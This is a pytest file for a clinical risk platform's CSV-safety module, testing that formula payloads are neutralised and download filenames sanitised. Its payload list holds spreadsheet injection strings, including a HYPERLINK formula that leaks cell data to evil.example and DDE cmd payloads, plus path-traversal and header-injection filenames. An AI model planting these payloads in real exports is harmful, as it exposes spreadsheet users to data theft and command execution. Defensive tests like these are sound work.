"""Formula-safe CSV (riskplatform/core/csv_safe.py): the red-team's payloads come back
neutralised from the worklist export and the importer's rejects file, numbers the platform
writes stay numbers, and download names cannot leave the Content-Disposition header."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from patients.identifiers import unprintable_reason
from patients.models import Department
from riskplatform.core.csv_safe import attachment_disposition, cell_neutralised, csv_writer
from riskplatform.core.roles import Role
from tests.factories import (
    FinancialProjectionFactory,
    PatientFactory,
    PatientFeaturesFactory,
    PredictionFactory,
    user_with_role,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",  # a leading tab that a spreadsheet strips, leaving =1+1
    "\r=1+1",
    "=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!A0",
    '=IMPORTXML("http://evil.example",A1)',
    "@A1",
    "+1+1",
    "-1+1",
]
HARMLESS = ["CARDIO", "EXT-000001", "1-2", "a=b", "foo@example.org", "", "  spaced", "'quoted"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_gets_a_quote_in_front_and_keeps_its_leading_tab_or_return(payload):
    assert cell_neutralised(payload) == "'" + payload


@pytest.mark.parametrize("value", HARMLESS)
def test_harmless_text_is_unchanged(value):
    assert cell_neutralised(value) == value


@pytest.mark.parametrize("number", [Decimal("-540.00"), -5, -0.25, Decimal("12.50"), 0])
def test_numbers_the_platform_writes_stay_numbers(number):
    assert cell_neutralised(number) is number
    out = io.StringIO()
    csv_writer(out).writerow([number, str(number)])
    number_cell, text_cell = next(csv.reader(io.StringIO(out.getvalue())))
    assert Decimal(number_cell) == Decimal(str(number))  # unquoted: a number in a sheet
    # The same digits as text (a file's cell, say) are text: neutralised when negative.
    assert text_cell == (f"'{number}" if str(number).startswith("-") else str(number))


def test_the_writer_round_trips_payloads_with_their_tabs_and_returns():
    out = io.StringIO()
    csv_writer(out).writerows([[payload, 1] for payload in PAYLOADS])
    read = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert [cells[0] for cells in read] == ["'" + p for p in PAYLOADS]
    assert read[3][0] == "'\t=1+1" and read[4][0] == "'\r=1+1"


def flagged_cardio_patient(*, external_id: str, version) -> None:
    """A CARDIO patient on the 30-day worklist whose intervention costs more than it saves;
    `version` a real model: the export explains each row's risk."""
    cardio = Department.objects.get(department_code="CARDIO")
    patient = PatientFactory(department=cardio, external_id=external_id, annual_cost=1000)
    PatientFeaturesFactory(patient=patient)
    prediction = PredictionFactory(
        patient=patient, model_version=version, risk_score=Decimal("0.8000")
    )
    FinancialProjectionFactory(prediction=prediction, intervention_cost=Decimal("600.00"))


@pytest.mark.django_db
def test_the_worklist_export_neutralises_external_ids_and_keeps_money_numeric(
    client, active_version
):
    # A tab or a carriage return cannot be stored in an external_id any more (CHECK
    # patients_external_id_printable); the writer's own test above covers them.
    stored = [p for p in PAYLOADS if unprintable_reason(p) is None]
    assert len(stored) == len(PAYLOADS) - 2
    for payload in stored:
        flagged_cardio_patient(external_id=payload, version=active_version)
    client.force_login(user_with_role("cardio", Role.COORDINATOR, ("CARDIO",)))
    response = client.get(reverse("worklist-export", args=["CARDIO", "30_day"]))
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        'attachment; filename="worklist-CARDIO-30_day.csv"; '
        "filename*=UTF-8''worklist-CARDIO-30_day.csv"
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
    assert sorted(r["external_id"] for r in rows) == sorted("'" + p for p in stored)
    # A small annual cost: the intervention costs more than it saves, and says so in numbers.
    assert all(Decimal(r["net_benefit"]) < 0 for r in rows)
    assert all(r["net_benefit"].startswith("-") for r in rows)


@pytest.mark.django_db
def test_the_importers_rejects_file_neutralises_the_files_cells(tmp_path):
    from patients.importer import patients_import
    from patients.models import DataSource
    from tests.patients.csv_files import row, write_csv

    path = write_csv(
        tmp_path / "patients.csv",
        [row(i + 1, external_id=payload, age="-5") for i, payload in enumerate(PAYLOADS)],
    )
    result = patients_import(
        path=path, source=DataSource.IMPORTED, changed_by="test", skip_invalid=True,
        rejects_path=tmp_path / "rejects.csv",
    )  # fmt: skip
    assert result.rejected == len(PAYLOADS)
    with (tmp_path / "rejects.csv").open(newline="") as handle:
        rejects = list(csv.DictReader(handle))
    cells = [value for r in rejects for value in r.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert {r["age"] for r in rejects} == {"'-5"}  # the file's text, not the platform's number
    assert all(r["row"].isdigit() for r in rejects)


@pytest.mark.parametrize(
    ("filename", "header"),
    [
        ("worklist-CARDIO-30_day.csv",
         "attachment; filename=\"worklist-CARDIO-30_day.csv\"; "
         "filename*=UTF-8''worklist-CARDIO-30_day.csv"),
        ('worklist-Q"X;-30_day.csv',
         "attachment; filename=\"worklist-Q_X_-30_day.csv\"; "
         "filename*=UTF-8''worklist-Q_X_-30_day.csv"),
        ("Kardiologie-Ärzte.csv",
         "attachment; filename=\"Kardiologie-Arzte.csv\"; "
         "filename*=UTF-8''Kardiologie-%C3%84rzte.csv"),
        ("../../etc/passwd", "attachment; filename=\"etc_passwd\"; filename*=UTF-8''etc_passwd"),
        ("a\r\nSet-Cookie: x=1", "attachment; filename=\"a_Set-Cookie_x_1\"; "
         "filename*=UTF-8''a_Set-Cookie_x_1"),
    ],
)  # fmt: skip
def test_download_names_are_sanitised_and_sent_per_rfc_6266(filename, header):
    assert attachment_disposition(filename) == header
